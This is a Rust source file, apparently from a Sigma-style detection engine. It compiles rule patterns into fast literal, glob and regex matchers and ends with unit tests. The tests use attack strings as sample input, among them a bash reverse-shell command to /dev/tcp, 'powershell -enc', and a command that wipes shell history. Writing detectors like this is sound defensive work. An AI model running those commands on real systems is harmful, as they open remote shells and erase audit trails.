//! String matchers: the leaves of every compiled rule.
//!
//! A pattern is compiled once, when the rule is loaded, into the cheapest matcher that is
//! exactly right for it: a literal compared as a whole, as a prefix, as a suffix or as a
//! substring; a wildcard glob; or a regular expression. Case-insensitive literals are lowered at
//! compile time and compared with ASCII case folding, so matching never allocates.
//!
//! Case folding: ASCII letters always fold. A pattern with non-ASCII letters is compiled to a
//! [`Glob`], which folds every character with its simple (one-to-one) Unicode lower case; the
//! rare multi-character foldings (`ß` ↔ `SS`) are not applied.

use regex::Regex;

/// One piece of a wildcard pattern, after Sigma's escape processing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Piece {
    /// Characters matched literally.
    Text(String),
    /// `?`: exactly one character.
    One,
    /// `*`: any run of characters, the empty one included.
    Many,
}

/// Where a literal must sit in the text it is matched against.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Anchor {
    /// The whole text.
    Exact,
    /// The start of the text.
    Prefix,
    /// The end of the text.
    Suffix,
    /// Anywhere in the text.
    Contains,
}

/// A compiled string pattern.
#[derive(Debug, Clone)]
pub(crate) enum StrMatcher {
    /// An ASCII literal compared ignoring ASCII case; `pat` is lower case.
    Folded {
        /// The lower-cased literal.
        pat: Box<str>,
        /// Where it must sit.
        anchor: Anchor,
        /// For `Contains`: the index of the pattern's rarest non-letter byte, the one byte a
        /// substring search compares at each position before comparing the whole pattern.
        pivot: Option<usize>,
    },
    /// A literal compared byte for byte.
    Cased {
        /// The literal.
        pat: Box<str>,
        /// Where it must sit.
        anchor: Anchor,
    },
    /// A pattern with wildcards inside it, or a case-insensitive non-ASCII literal.
    Glob(Glob),
    /// A regular expression (`|re`).
    Regex {
        /// The compiled expression.
        re: Regex,
        /// Whether it was built to ignore case (`|re|i`).
        ignore_case: bool,
    },
    /// `*` alone: every text.
    Any,
}

impl StrMatcher {
    /// Compiles a wildcard pattern. `cased` keeps letter case significant.
    pub(crate) fn from_pieces(pieces: &[Piece], cased: bool) -> Self {
        let pieces = normalise(pieces);
        let lead = matches!(pieces.first(), Some(Piece::Many));
        let trail = pieces.len() > 1 && matches!(pieces.last(), Some(Piece::Many));
        let core = &pieces[usize::from(lead)..pieces.len() - usize::from(trail)];
        match core {
            [] if lead => Self::Any,
            [] => Self::Cased {
                pat: "".into(),
                anchor: Anchor::Exact,
            },
            [Piece::Text(text)] => {
                let anchor = match (lead, trail) {
                    (false, false) => Anchor::Exact,
                    (false, true) => Anchor::Prefix,
                    (true, false) => Anchor::Suffix,
                    (true, true) => Anchor::Contains,
                };
                Self::literal(text, anchor, cased)
            }
            _ => Self::Glob(Glob::new(&pieces, cased)),
        }
    }

    /// A literal at `anchor`, case-insensitive unless `cased`.
    pub(crate) fn literal(text: &str, anchor: Anchor, cased: bool) -> Self {
        if cased || !text.chars().any(char::is_alphabetic) {
            Self::Cased {
                pat: text.into(),
                anchor,
            }
        } else if text.is_ascii() {
            Self::Folded {
                pat: text.to_ascii_lowercase().into(),
                anchor,
                pivot: if anchor == Anchor::Contains {
                    pivot(text.as_bytes())
                } else {
                    None
                },
            }
        } else {
            let mut pieces = Vec::with_capacity(3);
            if matches!(anchor, Anchor::Suffix | Anchor::Contains) {
                pieces.push(Piece::Many);
            }
            pieces.push(Piece::Text(text.to_owned()));
            if matches!(anchor, Anchor::Prefix | Anchor::Contains) {
                pieces.push(Piece::Many);
            }
            Self::Glob(Glob::new(&pieces, false))
        }
    }

    /// Whether `text` matches.
    pub(crate) fn is_match(&self, text: &str) -> bool {
        match self {
            Self::Folded { pat, anchor, pivot } => {
                if let (Anchor::Contains, Some(k)) = (anchor, pivot) {
                    return contains_folded_at_pivot(text, pat.as_bytes(), *k);
                }
                let (hay, pat) = (text.as_bytes(), pat.as_bytes());
                match anchor {
                    Anchor::Exact => hay.eq_ignore_ascii_case(pat),
                    Anchor::Prefix => {
                        hay.len() >= pat.len() && hay[..pat.len()].eq_ignore_ascii_case(pat)
                    }
                    Anchor::Suffix => {
                        hay.len() >= pat.len()
                            && hay[hay.len() - pat.len()..].eq_ignore_ascii_case(pat)
                    }
                    Anchor::Contains => contains_folded(hay, pat),
                }
            }
            Self::Cased { pat, anchor } => match anchor {
                Anchor::Exact => text == &**pat,
                Anchor::Prefix => text.starts_with(&**pat),
                Anchor::Suffix => text.ends_with(&**pat),
                Anchor::Contains => text.contains(&**pat),
            },
            Self::Glob(glob) => glob.is_match(text),
            Self::Regex { re, .. } => re.is_match(text),
            Self::Any => true,
        }
    }
}

/// Merges adjacent text pieces and collapses runs of `*`.
fn normalise(pieces: &[Piece]) -> Vec<Piece> {
    let mut out: Vec<Piece> = Vec::with_capacity(pieces.len());
    for piece in pieces {
        match (out.last_mut(), piece) {
            (_, Piece::Text(t)) if t.is_empty() => {}
            (Some(Piece::Text(prev)), Piece::Text(t)) => prev.push_str(t),
            (Some(Piece::Many), Piece::Many) => {}
            _ => out.push(piece.clone()),
        }
    }
    out
}

/// The index of the byte a substring search should look for: the rarest non-letter in typical
/// command lines and paths (punctuation, then digits, then `.`/`-`, then `/`, then space).
fn pivot(pat: &[u8]) -> Option<usize> {
    let commonness = |b: u8| match b {
        b' ' => 5,
        b'/' => 4,
        b'.' | b'-' => 3,
        b'0'..=b'9' => 2,
        _ => 1,
    };
    pat.iter()
        .enumerate()
        .filter(|(_, b)| !b.is_ascii_alphabetic())
        .min_by_key(|(i, b)| (commonness(**b), *i))
        .map(|(i, _)| i)
}

/// Whether `text` contains `pat` (lower-case ASCII, non-letter at `k`), ignoring ASCII case.
/// Candidates are the positions where the pivot byte sits, tested with one comparison.
fn contains_folded_at_pivot(text: &str, pat: &[u8], k: usize) -> bool {
    let hay = text.as_bytes();
    let Some(&needle) = pat.get(k) else {
        return false;
    };
    let Some(last_start) = hay.len().checked_sub(pat.len()) else {
        return false;
    };
    (0..=last_start).any(|start| {
        hay[start + k] == needle && hay[start..start + pat.len()].eq_ignore_ascii_case(pat)
    })
}

/// Whether `hay` contains `pat` (lower-case ASCII), ignoring ASCII case.
fn contains_folded(hay: &[u8], pat: &[u8]) -> bool {
    let Some((&first, rest)) = pat.split_first() else {
        return true;
    };
    if hay.len() < pat.len() {
        return false;
    }
    let upper = first.to_ascii_uppercase();
    let last_start = hay.len() - pat.len();
    let mut i = 0;
    while i <= last_start {
        let b = hay[i];
        if (b == first || b == upper) && hay[i + 1..i + pat.len()].eq_ignore_ascii_case(rest) {
            return true;
        }
        i += 1;
    }
    false
}

/// One token of a compiled glob.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum GlobTok {
    /// A character (folded when the glob ignores case).
    Char(char),
    /// `?`.
    One,
    /// `*`.
    Many,
}

/// A wildcard pattern matched character by character, without allocating.
#[derive(Debug, Clone)]
pub(crate) struct Glob {
    toks: Box<[GlobTok]>,
    folded: bool,
}

impl Glob {
    fn new(pieces: &[Piece], cased: bool) -> Self {
        let folded = !cased;
        let mut toks = Vec::new();
        for piece in pieces {
            match piece {
                Piece::Text(t) => toks.extend(
                    t.chars()
                        .map(|c| GlobTok::Char(if folded { fold(c) } else { c })),
                ),
                Piece::One => toks.push(GlobTok::One),
                Piece::Many => {
                    if toks.last() != Some(&GlobTok::Many) {
                        toks.push(GlobTok::Many);
                    }
                }
            }
        }
        Self {
            toks: toks.into(),
            folded,
        }
    }

    /// Whether `text` matches the whole pattern.
    fn is_match(&self, text: &str) -> bool {
        let toks = &self.toks;
        let (mut p, mut s) = (0usize, 0usize);
        // Where the last `*` was seen, and the text position it currently stands for.
        let mut star: Option<(usize, usize)> = None;
        loop {
            let ch = text[s..].chars().next();
            match (toks.get(p), ch) {
                (Some(GlobTok::Many), _) => {
                    star = Some((p, s));
                    p += 1;
                    continue;
                }
                (Some(GlobTok::One), Some(c)) => {
                    p += 1;
                    s += c.len_utf8();
                    continue;
                }
                (Some(GlobTok::Char(want)), Some(c)) if self.char_eq(*want, c) => {
                    p += 1;
                    s += c.len_utf8();
                    continue;
                }
                (None, None) => return true,
                _ => {}
            }
            // Mismatch: let the last `*` swallow one more character and retry after it.
            match star {
                Some((sp, ss)) => match text[ss..].chars().next() {
                    Some(c) => {
                        let ss = ss + c.len_utf8();
                        star = Some((sp, ss));
                        p = sp + 1;
                        s = ss;
                    }
                    None => return false,
                },
                None => return false,
            }
        }
    }

    /// The longest run of characters every text the glob matches contains, found by an ASCII
    /// case-insensitive substring search (the literal prefilter's). When the glob folds case,
    /// a run stops at a non-ASCII character (its other cases are other bytes) and at `k`
    /// (U+212A KELVIN SIGN folds to it: the one non-ASCII character whose simple lower case is
    /// ASCII).
    pub(crate) fn required_literal(&self) -> Option<String> {
        let mut best = String::new();
        let mut run = String::new();
        for tok in self.toks.iter().chain([&GlobTok::Many]) {
            match tok {
                GlobTok::Char(c) if !self.folded || (c.is_ascii() && *c != 'k') => run.push(*c),
                _ => {
                    if run.len() > best.len() {
                        best = std::mem::take(&mut run);
                    }
                    run.clear();
                }
            }
        }
        (!best.is_empty()).then_some(best)
    }

    fn char_eq(&self, want: char, got: char) -> bool {
        want == got || (self.folded && want == fold(got))
    }
}

/// Simple one-to-one lower case of a character.
fn fold(c: char) -> char {
    if c.is_ascii() {
        return c.to_ascii_lowercase();
    }
    let mut lower = c.to_lowercase();
    match (lower.next(), lower.next()) {
        (Some(l), None) => l,
        _ => c,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(s: &str) -> Piece {
        Piece::Text(s.into())
    }

    fn m(pieces: &[Piece], cased: bool) -> StrMatcher {
        StrMatcher::from_pieces(pieces, cased)
    }

    #[test]
    fn plain_pieces_compile_to_literal_fast_paths() {
        use Piece::Many;
        assert!(matches!(
            m(&[text("/bin/sh")], false),
            StrMatcher::Folded {
                anchor: Anchor::Exact,
                ..
            }
        ));
        // Nothing to fold: compared byte for byte.
        assert!(matches!(
            m(&[text(" -1 /")], false),
            StrMatcher::Cased {
                anchor: Anchor::Exact,
                ..
            }
        ));
        assert!(matches!(
            m(&[text("Sh"), Many], false),
            StrMatcher::Folded {
                anchor: Anchor::Prefix,
                ..
            }
        ));
        assert!(matches!(
            m(&[Many, text("sh")], false),
            StrMatcher::Folded {
                anchor: Anchor::Suffix,
                ..
            }
        ));
        assert!(matches!(
            m(&[Many, Many, text("x"), Many], false),
            StrMatcher::Folded {
                anchor: Anchor::Contains,
                ..
            }
        ));
        assert!(matches!(m(&[Many], false), StrMatcher::Any));
        assert!(matches!(
            m(&[text("a"), Many, text("b")], false),
            StrMatcher::Glob(_)
        ));
    }

    #[test]
    fn folded_literals_ignore_ascii_case() {
        let exact = StrMatcher::literal("/usr/bin/Base64", Anchor::Exact, false);
        assert!(exact.is_match("/USR/bin/base64"));
        assert!(!exact.is_match("/usr/bin/base64x"));
        let prefix = StrMatcher::literal("Curl ", Anchor::Prefix, false);
        assert!(prefix.is_match("CURL -s http://x"));
        assert!(!prefix.is_match("xcurl "));
        let suffix = StrMatcher::literal("/WGET", Anchor::Suffix, false);
        assert!(suffix.is_match("/usr/bin/wget"));
        assert!(!suffix.is_match("wget"));
        let contains = StrMatcher::literal("-EnC", Anchor::Contains, false);
        assert!(contains.is_match("powershell -enc AAA"));
        assert!(contains.is_match("-ENC"));
        assert!(!contains.is_match("-en"));
        assert!(!contains.is_match(""));
    }

    #[test]
    fn cased_literals_respect_case() {
        let contains = StrMatcher::literal("-O", Anchor::Contains, true);
        assert!(contains.is_match("wget -O /tmp/x"));
        assert!(!contains.is_match("wget -o /tmp/x"));
        let exact = StrMatcher::literal("Root", Anchor::Exact, true);
        assert!(!exact.is_match("root"));
    }

    #[test]
    fn non_ascii_literals_fold_unicode_case() {
        let m = StrMatcher::literal("ÜBER", Anchor::Contains, false);
        assert!(matches!(m, StrMatcher::Glob(_)));
        assert!(m.is_match("x über y"));
        assert!(!m.is_match("x uber y"));
    }

    #[test]
    fn glob_wildcards_match_runs_and_single_chars() {
        use Piece::{Many, One};
        let g = m(&[text("cat /dev/null >"), Many, text("sh_history")], false);
        assert!(g.is_match("cat /dev/null >~/.bash_history"));
        assert!(g.is_match("CAT /dev/null >sh_history"));
        assert!(!g.is_match("cat /dev/null > history"));
        let q = m(&[text("prog"), One, text(".exe")], false);
        assert!(q.is_match("progA.exe"));
        assert!(q.is_match("progé.exe"));
        assert!(!q.is_match("prog.exe"));
        assert!(!q.is_match("progAB.exe"));
        let many = m(&[Many, text("a"), Many, text("b"), Many, text("c")], true);
        assert!(many.is_match("xxaxxbxxbc"));
        assert!(!many.is_match("xxaxxbxxbcd"));
        assert!(!many.is_match("xxcxxbxxa"));
    }

    #[test]
    fn empty_pattern_matches_only_empty_text() {
        let m = m(&[text("")], false);
        assert!(m.is_match(""));
        assert!(!m.is_match("x"));
    }

    #[test]
    fn pivoted_contains_agrees_with_the_plain_scan() {
        assert_eq!(pivot(b"spawn"), None);
        assert_eq!(pivot(b"/dev/tcp/"), Some(0));
        assert_eq!(pivot(b" -enc "), Some(1));
        assert_eq!(pivot(b"a|b c"), Some(1));
        let texts = [
            "",
            "ls",
            "bash -i >& /dev/TCP/10.0.0.1/4444 0>&1",
            "x/dev/tcp",
            "é/DEV/tcp/ü",
            "powershell -ENC abc",
            "--enc",
        ];
        for pat in ["/dev/tcp/", " -enc", "-enc", "tcp/1", "é", "0>&1", "/"] {
            if !pat.is_ascii() {
                continue;
            }
            let lower = pat.to_ascii_lowercase();
            let k = pivot(lower.as_bytes()).unwrap();
            for text in texts {
                assert_eq!(
                    contains_folded_at_pivot(text, lower.as_bytes(), k),
                    contains_folded(text.as_bytes(), lower.as_bytes()),
                    "{pat:?} in {text:?}"
                );
            }
        }
    }

    #[test]
    fn kelvin_is_the_only_non_ascii_character_folding_to_ascii() {
        let folding: Vec<char> = ('\u{80}'..=char::MAX)
            .filter(|c| fold(*c).is_ascii())
            .collect();
        assert_eq!(folding, ['\u{212A}']);
        assert_eq!(fold('\u{212A}'), 'k');
    }

    #[test]
    fn glob_required_literals_avoid_unsafe_characters() {
        use Piece::Many;
        let lit = |pieces: &[Piece], cased| match m(pieces, cased) {
            StrMatcher::Glob(g) => g.required_literal(),
            other => panic!("not a glob: {other:?}"),
        };
        assert_eq!(
            lit(&[text("ab"), Many, text("cdef"), Many, text("g")], false),
            Some("cdef".into())
        );
        assert_eq!(
            lit(&[text("ÜBERlong"), Many, text("x")], false),
            Some("berlong".into())
        );
        assert_eq!(
            lit(&[text("kkkk"), Many, text("ab")], false),
            Some("ab".into())
        );
        assert_eq!(
            lit(&[text("kkkk"), Many, text("ab")], true),
            Some("kkkk".into())
        );
        assert_eq!(lit(&[text("ü"), Many, text("é")], false), None);
    }

    #[test]
    fn contains_folded_handles_edges() {
        assert!(contains_folded(b"abc", b""));
        assert!(contains_folded(b"xxABC", b"abc"));
        assert!(!contains_folded(b"ab", b"abc"));
        assert!(contains_folded(b"aaab", b"aab"));
    }
}
